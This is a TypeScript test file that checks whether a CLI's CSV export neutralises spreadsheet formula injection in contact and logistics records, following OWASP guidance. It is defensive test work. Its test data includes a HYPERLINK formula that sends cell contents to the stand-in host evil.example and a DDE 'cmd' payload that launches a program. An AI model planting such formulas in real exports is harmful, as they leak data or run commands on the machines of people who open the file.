// One store: the CLI talks to the server through the API; the API's own tests run on both stores.
// CSV formula injection (OWASP "CSV Injection"; issue #10 item 4): no cell of an export may begin
// with a character a spreadsheet reads as the start of a formula.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { parseCsv } from '../services/orders/csv.js';
import { sosa } from '../testing/run-sosa-cli.js';
import { toCsv, type ExportRegister } from './export-command.js';
import { useDemoServer } from '../testing/demo-server.js';

const PASSWORD = 'csv-injection-password';
const HYPERLINK = '-1+HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const CMD = "+1+cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function cells(csv: string): string[][] {
  const parsed = parseCsv(csv);
  assert.ok(parsed.ok, 'the export is valid RFC 4180 CSV');
  return parsed.records.map((r) => r.fields);
}

/** Every cell of the file, and every raw line, is free of a formula start. */
function assertNoFormula(csv: string): void {
  for (const row of cells(csv)) for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `cell ${JSON.stringify(cell)}`);
  for (const line of csv.split('\r\n')) for (const raw of line.split(',')) assert.doesNotMatch(raw, FORMULA_START, `raw field ${JSON.stringify(raw)}`);
}

const oneColumn: ExportRegister = { description: '', path: '', columns: [['value', (r) => r.value]] };
const write = (value: unknown) => toCsv(oneColumn, [{ value }]).split('\r\n')[1]!;

describe('CSV export: the OWASP formula rule, without exceptions', () => {
  it('neutralises each formula start with a leading apostrophe and quotes the cell', () => {
    for (const attack of [HYPERLINK, CMD, '=1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1', '-12.50', '+91 11 2301 1234']) {
      const line = toCsv(oneColumn, [{ value: attack }]);
      assertNoFormula(line);
      assert.equal(cells(line)[1]![0], `'${attack}`, `reads back as '${attack}`);
    }
    assert.equal(write(CMD), `"'${CMD}"`);
    assert.equal(write('=HYPERLINK("x")'), `"'=HYPERLINK(""x"")"`);
  });

  it('a phone number is written like any other cell: readable, and never a formula', () => {
    assert.equal(write('+91 11 2301 1234'), `"'+91 11 2301 1234"`);
    assert.equal(write('(703) 555-0100'), '(703) 555-0100', 'a number that does not start with + needs nothing');
  });

  it('leaves harmless cells alone and keeps RFC 4180 quoting', () => {
    assert.equal(write('plain'), 'plain');
    assert.equal(write('a,b'), '"a,b"');
    assert.equal(toCsv(oneColumn, [{ value: 'line\nbreak' }, { value: 'lone\rreturn' }]), 'value\r\n"line\nbreak"\r\n"lone\rreturn"\r\n');
    assert.equal(write(0), '0');
    assert.equal(write(null), '');
    assert.equal(write(false), 'false');
    assert.equal(write('2026-11-02'), '2026-11-02');
  });
});

describe('sosa export: attack strings written by an officer come out neutralised', () => {
  const server = useDemoServer(PASSWORD);
  let env: Record<string, string>;
  const post = async (token: string, path: string, body: unknown) => {
    const res = await fetch(`${server.url}/api/v1${path}`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
    assert.equal(res.status, 201, await res.text());
  };
  before(async () => {
    const token = await server.token('in.sosa');
    env = { SOSA_TOKEN: token, SOSA_URL: server.url };
    await post(token, '/points-of-contact', { function: 'other', name: HYPERLINK, title: CMD, organisation: '@SUM(1+1)', phone: '+91 11 2301 1234', notes: '=1+1' });
    await post(token, '/logistics/orders', { supplyingNation: 'IN', receivingNation: 'US', supportClass: 'services', description: HYPERLINK, occasion: CMD, deliveredOn: '2026-01-15', currency: 'USD', amount: '10.00', settlementMethod: 'cash' });
  });

  it('points of contact: the name, title, organisation and notes read back with an apostrophe; the phone stays readable', async () => {
    const out = await sosa(['export', 'points-of-contact'], env);
    assert.equal(out.code, 0, out.stderr);
    assertNoFormula(out.stdout);
    const [header, ...rows] = cells(out.stdout);
    const col = (name: string) => header!.indexOf(name);
    const row = rows.find((r) => r[col('name')] === `'${HYPERLINK}`);
    assert.ok(row, out.stdout);
    assert.deepEqual([row[col('title')], row[col('organisation')], row[col('notes')], row[col('phone')]], [`'${CMD}`, "'@SUM(1+1)", "'=1+1", "'+91 11 2301 1234"]);
  });

  it('logistics: the description and occasion are neutralised', async () => {
    const out = await sosa(['export', 'logistics'], env);
    assert.equal(out.code, 0, out.stderr);
    assertNoFormula(out.stdout);
    const [header, ...rows] = cells(out.stdout);
    const row = rows.find((r) => r[header!.indexOf('description')] === `'${HYPERLINK}`);
    assert.ok(row, out.stdout);
    assert.equal(row[header!.indexOf('occasion')], `'${CMD}`);
  });
});
